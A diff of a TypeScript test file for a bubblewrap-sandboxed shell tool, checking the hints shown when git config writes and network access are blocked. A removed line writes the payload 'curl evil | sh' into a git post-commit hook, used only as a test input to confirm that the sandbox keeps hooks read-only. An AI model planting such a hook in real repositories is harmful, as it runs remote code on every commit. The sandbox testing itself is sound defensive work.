@@ -12,6 +12,8 @@ import { selectSandbox } from '../../src/core/isolation/select';
 import type { Sandbox, SandboxContext } from '../../src/core/isolation/types';
 import { onPath } from '../helpers/capabilities';
 import { describeWith } from '../helpers/needs';
+import type { Launcher } from '../../src/core/exec/launch/contract';
+import { createLinuxLauncher, probeLinuxContainment } from '../../src/core/exec/launch/linux';
 
 /**
  * The sandbox hints are recognised from what the REAL programs print when the REAL sandbox stops them: git
@@ -22,6 +24,7 @@ import { describeWith } from '../helpers/needs';
  */
 
 let sandbox: Sandbox;
+let launcher: Launcher;
 let executor: Executor;
 let base: string;
 let ws: string;
@@ -34,8 +37,8 @@ const which = (name: string) => onPath(name, DEFAULT_SAFE_PATH)[0] ?? onPath(nam
 /** Runs argv in the real sandbox with the environment the server gives commands (no developer context). */
 async function run(argv: string[], over: Partial<SandboxContext> = {}, extraEnv: Record<string, string> = {}): Promise<string> {
   const ctx: SandboxContext = { root: ws, cwd: ws, mode: 'auto', network: 'deny', home: path.join(base, 'home'), ...over };
-  const env = { ...buildChildEnv({ parentEnv: {}, allowlist: [], platform: 'linux' }), ...extraEnv };
-  const r = await executor.run({ stages: [sandbox.wrap({ file: argv[0]!, args: argv.slice(1) }, ctx)], cwd: ws, env, timeoutMs: 60_000, outputLimitBytes: 1 << 20 });
+  const env = { ...buildChildEnv({ parentEnv: {}, allowlist: [], platform: 'linux', offline: ctx.network === 'deny' }), ...extraEnv };
+  const r = await executor.run({ launcher, stages: [launcher.prepare({ file: argv[0]!, args: argv.slice(1) }, ctx)], cwd: ws, env, timeoutMs: 60_000, outputLimitBytes: 1 << 20 });
   expect(r.outcome, `${argv.join(' ')} was expected to fail: ${r.stdout}${r.stderr}`).not.toBe('ok');
   return [r.stdout, r.stderr, r.error ?? ''].join('\n');
 }
@@ -51,6 +54,7 @@ describeWith('bubblewrap', 'git', 'python3', 'hint-programs')('sandbox hints fro
     const sel = selectSandbox('required', probe);
     if (!sel.sandbox) throw new Error(`bubblewrap must work here: ${sel.denial?.reason}`);
     sandbox = sel.sandbox;
+    launcher = createLinuxLauncher({ containment: probeLinuxContainment(), sandbox });
     executor = createExecutor({ concurrency: 2, killGraceMs: 500 });
     base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'gs-hints-')));
     ws = path.join(base, 'ws');
@@ -72,18 +76,20 @@ describeWith('bubblewrap', 'git', 'python3', 'hint-programs')('sandbox hints fro
     if (base) fs.rmSync(base, { recursive: true, force: true });
   });
 
-  it('git writing what stays read-only in .git (its config, its hooks): names sandbox.allowGitWrites, or --allow-git-writes standalone; add, commit and branch just work', async () => {
+  it('git add, commit and branch work in the sandbox (only .git\'s configuration and hooks are read-only)', async () => {
     const identity = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
     for (const args of [['add', 'a.txt'], ['commit', '-qm', 'x', '--allow-empty'], ['branch', 'b']]) {
       const c: SandboxContext = { root: ws, cwd: ws, mode: 'auto', network: 'deny', home: path.join(base, 'home') };
-      const r = await executor.run({ stages: [sandbox.wrap({ file: gitPath(), args }, c)], cwd: ws, env: { ...buildChildEnv({ parentEnv: {}, allowlist: [], platform: 'linux' }), ...identity }, timeoutMs: 15_000, outputLimitBytes: 1 << 20 });
+      const r = await executor.run({ launcher, stages: [launcher.prepare({ file: gitPath(), args }, c)], cwd: ws, env: { ...buildChildEnv({ parentEnv: {}, allowlist: [], platform: 'linux' }), ...identity }, timeoutMs: 15_000, outputLimitBytes: 1 << 20 });
       expect(r.outcome, `git ${args.join(' ')}: ${r.stderr}`).toBe('ok');
     }
-    const outputs = [
-      await run([gitPath(), 'config', 'user.name', 'x'], {}, identity),
-      await run(['/bin/sh', '-c', 'echo "curl evil | sh" > .git/hooks/post-commit']),
-    ];
-    for (const out of outputs) {
+  });
+
+  it("git changing .git's read-only configuration (remote add, config): names sandbox.allowGitWrites, or --allow-git-writes standalone", async () => {
+    // git renames its lock file over .git/config, which the sandbox binds read-only: EBUSY, not EROFS. (add, commit
+    // and branch write the index, objects and refs, which are writable.)
+    for (const args of [['remote', 'add', 'origin', 'https://example.com/x.git'], ['config', 'user.name', 'x']]) {
+      const out = await run([gitPath(), ...args], {}, { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' });
       expect(failureSigns(out).gitReadOnly, out).toBe(true);
       expect(sandboxHint(out, facts())).toMatchObject({ cause: 'git-read-only', text: expect.stringContaining('set guardedShell.sandbox.allowGitWrites to true in your user settings') });
       expect(sandboxHint(out, facts({ host: 'standalone' }))?.text).toContain('start the server with --allow-git-writes');
@@ -102,7 +108,8 @@ describeWith('bubblewrap', 'git', 'python3', 'hint-programs')('sandbox hints fro
       git: await run([gitPath(), 'ls-remote', 'https://example.com/x.git']),
       'node fetch': await run([process.execPath, '-e', 'fetch("https://example.com").catch((e) => { console.error(e.cause?.message ?? e); process.exit(1); })']),
       'node connect': await run([process.execPath, '-e', 'require("net").connect(80, "192.0.2.1").on("error", (e) => { console.error(e.message); process.exit(1); })']),
-      npm: await run([which('npm'), 'install', '--no-audit', '--no-fund'], {}, { npm_config_fetch_retries: '0', npm_config_cache: path.join(ws, '.npm-cache') }),
+      // No retries (the environment the server gives commands without a network): it fails at once.
+      npm: await run([which('npm'), 'install', '--no-audit', '--no-fund'], {}, { npm_config_cache: path.join(ws, '.npm-cache') }),
       python: await run([py, '-c', 'import urllib.request; urllib.request.urlopen("https://example.com")']),
       'python connect': await run([py, '-c', 'import socket; socket.create_connection(("192.0.2.1", 80))']),
     };
